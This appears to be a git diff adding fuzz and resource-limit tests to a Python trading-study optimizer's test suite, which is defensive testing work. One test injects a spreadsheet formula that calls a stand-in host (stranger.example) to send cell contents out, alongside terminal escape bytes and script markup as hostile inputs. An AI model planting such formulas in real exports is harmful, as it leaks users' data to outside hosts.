@@ -6,13 +6,16 @@ By default a sample of the product, the same each time; ``BARSWEEP_FUZZ=all`` ta
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import json
 import os
 import random
 import shutil
 import socket
+import sqlite3
 import sys
+import tracemalloc
 from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
 from typing import Any, NamedTuple
@@ -22,9 +25,23 @@ import pyarrow.parquet as pq
 import pytest
 import tomli_w
 
+from optimizer.analytics.address import parse_url
+from optimizer.analytics.spill import Spill
+from optimizer.analytics.tables import BarRows
+from optimizer.errors import BarsweepError
+from optimizer.review.notebook import study_html
 from optimizer.search.run import run_study
-from optimizer.store.batches import MOMENTS_KEY, TRIALS_KEY, parquet_file
+from optimizer.store import batches, ledger
+from optimizer.store.batches import (
+    MOMENTS_KEY,
+    TRIALS_KEY,
+    parquet_file,
+    read_batch,
+    read_results,
+)
 from optimizer.store.export import export_sets
+from optimizer.store.folder import StudyFolder
+from optimizer.store.validated import MOST_BYTES, read_text
 from tests.support.command import barsweep
 from tests.support.studies import mapping, random_bars, small_study, write_bars
 
@@ -55,6 +72,14 @@ VALUES = {
     "markup": json.dumps(MARKUP),
     "deep": "[" * 50_000 + "]" * 50_000,
     "digits": "9" * 5_000,
+    "20 digits": "9" * 20,
+    "400 digits": "9" * 400,
+    "4300 digits": "-" + "9" * 4_300,
+    "surrogate": '"a\\ud800"',
+    "later surrogate": '{"x": ["\\uDfff"]}',
+    "deleted": json.dumps("a\x7fb\x80\x9b2J\x85"),
+    "subnormal": "1e-320",
+    "tiny": "-5e-324",
 }
 """What each key is replaced by, as JSON has it."""
 
@@ -155,6 +180,10 @@ class Fuzz:
         self._commands = commands(home)
         self._outside = tree(home.safe, ("out", "flow"))
         self.problems: list[str] = []
+
+    def add(self, name: str, arguments: list[Any]) -> None:
+        """A command that ``run`` knows by name."""
+        self._commands[name] = arguments
 
     def restore(self, folder: str) -> None:
         shutil.rmtree(self.home.path / folder)
@@ -468,6 +497,8 @@ TRIALS: dict[str, Callable[[dict[str, Any]], Any]] = {
     "winner": lambda one: {**one, "user_attrs": {"n_sets": 1, "winner": {CLOSING: 1.0}}},
     "params": lambda one: {**one, "params": {MARKUP: 1.0}},
     "text": lambda one: {**one, "values": "x"},
+    "surrogate": lambda one: {**one, "user_attrs": {**one["user_attrs"], "reason": "a\ud800"}},
+    "digits": lambda one: {**one, "number": int("9" * 4_000)},
     "list": lambda one: [one],
 }
 
@@ -495,6 +526,195 @@ def test_a_crafted_batch(case: str, fuzz: Fuzz) -> None:
     for page in ("report.html", "heatmap-lookback-kelly_fraction.html"):
         if (fuzz.home.path / "out" / page).is_file():
             assert "<script>alert(1)" not in (fuzz.home.path / "out" / page).read_text()
+    fuzz.check()
+
+
+FORMULA = '=HYPERLINK("http://stranger.example/"&A1,"x")'
+
+
+def rewritten(path: Path, frame: Any) -> None:
+    """A batch of other rows, with a right checksum."""
+    table = pq.read_table(path)
+    metadata = {key: table.schema.metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY)}
+    crafted = pa.Table.from_pandas(frame, preserve_index=False)
+    path.write_bytes(parquet_file(crafted.replace_schema_metadata(metadata)))
+
+
+@pytest.mark.parametrize("column", ["strategy", "classifier", "parameter"])
+def test_a_formula_reaches_no_table(column: str, fuzz: Fuzz) -> None:
+    """A spreadsheet would compute it: names are those of the study."""
+    for path in (fuzz.home.path / "out" / "results").glob("*.parquet"):
+        frame = pq.read_table(path).to_pandas()
+        if column == "parameter":
+            frame = frame.rename(columns={"kelly_fraction": FORMULA})
+        else:
+            frame[column] = FORMULA
+        for name in ("strategy", "classifier"):
+            frame[name] = frame[name].astype("category")
+        rewritten(path, frame)
+    for arguments in (("export", "out", "--format", "csv"), ("show", "out"), ("show", "out", 0)):
+        done = barsweep(*arguments, folder=fuzz.home.path)
+        assert done.returncode == 2 and done.stderr.count("\n") == 1
+        assert "HYPERLINK" in done.stderr
+    assert not (fuzz.home.path / "out" / "best.csv").exists()
+    # It is damage like any other: what is not the study's is computed again.
+    done = barsweep("resume", "out", "--workers", 1, folder=fuzz.home.path)
+    assert done.returncode == 0, done.stderr
+    done = barsweep("export", "out", "--format", "csv", folder=fuzz.home.path)
+    assert done.returncode == 0 and "HYPERLINK" not in (fuzz.home.path / "out/best.csv").read_text()
+
+
+# --- Sizes --------------------------------------------------------------------------------------
+
+
+def test_a_study_of_any_number_of_trials_takes_no_memory(fuzz: Fuzz) -> None:
+    folder = StudyFolder(fuzz.home.path / "out")
+    tracemalloc.start()
+    try:
+        found = folder.damage(10**9)
+        most = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert found == (folder.batch_path(2), "missing")
+    assert most < 50e6
+
+
+def test_more_rows_than_sets_are_not_read(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Rows that are all the same take no room in a file, and any in memory."""
+    path = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
+    table = pq.read_table(path)
+    rewritten(path, pa.concat_tables([table.slice(0, 1)] * 200_000).to_pandas())
+    assert path.stat().st_size < 1_000_000
+    with monkeypatch.context() as patched:
+        patched.setattr(pq, "read_table", lambda *_, **__: pytest.fail("read"))
+        with pytest.raises(ValueError, match=r"has 200,000 rows; its trials have \d+ parameter"):
+            read_results(path)
+    fuzz.run("rows", OF_STUDY)
+    fuzz.check()
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="sparse files")
+@pytest.mark.parametrize("name", ["results/batch-000001.parquet", "moments/batch-000001.npy"])
+def test_a_file_of_any_size_takes_no_memory(name: str, fuzz: Fuzz) -> None:
+    path = fuzz.home.path / "out" / name
+    before = path.read_bytes()
+    batch = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
+    with path.open("wb") as file:
+        file.truncate(2_000_000_000)
+        if path == batch:  # its end is that of a batch
+            file.seek(0, os.SEEK_END)
+            file.write(before[-8 - int.from_bytes(before[-8:-4], "little") :])
+    tracemalloc.start()
+    try:
+        with pytest.raises(ValueError, match="damaged"):
+            read_batch(batch)
+        most = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert most < 50e6
+
+
+def test_metadata_of_any_size_are_not_read(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
+    monkeypatch.setattr(batches, "MOST_METADATA", 1_000)
+    for read in (read_batch, read_results):
+        with pytest.raises(ValueError, match="its metadata have 0 MB, more than any batch has"):
+            read(path)
+
+
+def test_a_json_file_of_any_size_is_not_read(tmp_path: Path) -> None:
+    file = tmp_path / "x.json"
+    with file.open("wb") as opened:
+        opened.write(b"1")
+        opened.truncate(MOST_BYTES + 1)
+    with pytest.raises(ValueError, match="it has 64 MB, more than 64"):
+        read_text(file)
+
+
+def test_only_a_run_is_told_to_lower_its_batch(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
+    def full(*_: Any, **__: Any) -> Any:
+        raise MemoryError
+
+    monkeypatch.setattr("optimizer.study_file.load.load_study", full)
+    monkeypatch.setattr("optimizer.store.query.find_sets", full)
+    done = barsweep("run", "data/flow.toml", folder=fuzz.home.path)
+    assert done.returncode == 2 and "lower [search] batch" in done.stderr
+    done = barsweep("show", "out", "--where", "n_trades >= 0", folder=fuzz.home.path)
+    assert done.returncode == 2 and "out of memory" in done.stderr
+    assert "batch" not in done.stderr
+
+
+# --- Other readers ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["out/study.json", "out/selection.json"])
+def test_a_notebook_shows_no_markup(name: str, fuzz: Fuzz) -> None:
+    """``_repr_html_`` gives a page or raises one line, whatever a value is replaced by."""
+    file = fuzz.home.path / name
+    content = json.loads(file.read_text())
+    folder = StudyFolder(file.parent)
+    cases = [(place, kind) for place in places(content) for kind in VALUES]
+    for place, kind in sampled(cases, 60):
+        file.write_text(replaced(content, place, VALUES[kind]))
+        page = ""
+        with contextlib.suppress(BarsweepError):
+            page = study_html(folder)
+        assert MARKUP not in page, (place, kind)
+        page.encode()
+
+
+def test_a_spill_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every value of the header and of a bar replaced; other rows go into the folder's own database."""
+    flow = fuzz.home.path / "flow"
+    address = parse_url(f"sqlite:///{flow / 'analytics.db'}")
+    spill = Spill(flow / "spill.jsonl", address)
+    bar = ["b", 7, "t", "AAA", 1.0, 1.0, 1.0, 1.0, 2.0]
+    fill = ["f", None, "p", 7, "AAA", "market", 1.0, 1.0, 0.0, 1.0, 1.0, "b", None, None]
+    rows: dict[str, Any] = {"bars": [tuple(bar)], "fills": [tuple(fill)]}
+    spill.write([BarRows(7, rows, 2)])
+    spill.close()
+    lines = spill.path.read_text().splitlines()
+    done = barsweep("analytics", "import", "flow/spill.jsonl", folder=fuzz.home.path)
+    assert done.stdout == "imported 2 rows\n", done
+    cases = [
+        (number, place, kind)
+        for number, line in enumerate(lines)
+        for place in places(json.loads(line))
+        for kind in VALUES
+    ]
+    fuzz.add("import", ["analytics", "import", "flow/spill.jsonl"])
+    for number, place, kind in sampled(cases, 60):
+        fuzz.restore("flow")
+        changed = [*lines]
+        changed[number] = replaced(json.loads(lines[number]), place, VALUES[kind])
+        spill.path.write_text("".join(f"{line}\n" for line in changed))
+        fuzz.run(f"spill {number} {place} = {kind}", ("import", "rejects"))
+    for text in ("", "\n", "{}\n{}\n", lines[0], f"{lines[0]}\n[]\n", f"{lines[0]}\n\ufffd\n"):
+        spill.path.write_text(text)
+        fuzz.run(f"spill {text[:20]}", ("import",))
+    spill.path.write_bytes(lines[0].encode() + b'\n{"bar": 1, "rows": {"bars": [["\xff"]]}}\n')
+    fuzz.run("spill of bytes", ("import",))
+    fuzz.check()
+
+
+def test_a_ledger_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A copy of another user's, or a file that is none."""
+    place = fuzz.home.path.parent / "ledger.db"
+    monkeypatch.setenv("BARSWEEP_LEDGER", str(place))
+    fuzz.add("ledger", ["ledger"])
+    strange = ["", MARKUP, CLOSING, "\x7f\x9b2J", "x" * 100_000, "=1+1"]
+    for kind in (*strange, None, -1, 2**63 - 1, 1e308, float("inf"), b"\xff\xfe"):
+        place.unlink(missing_ok=True)
+        ledger.note("0" * 64, "1" * 64, "study", "bars.parquet", 3)
+        for column in ("data_hash", "study_hash", "study", "data", "n_sets", "last_run"):
+            with contextlib.closing(sqlite3.connect(place)) as database:
+                with contextlib.suppress(sqlite3.IntegrityError):
+                    database.execute(f"UPDATE studies SET {column} = ?", (kind,))
+                database.commit()
+            fuzz.run(f"ledger {column} = {str(kind)[:20]!r}", ("ledger", "show"))
+    for content in (b"", b"x" * 5_000, (fuzz.home.safe / "flow" / "analytics.db").read_bytes()):
+        place.write_bytes(content)
+        fuzz.run(f"ledger of {len(content)} bytes", ("ledger", "show"))
     fuzz.check()
 
 
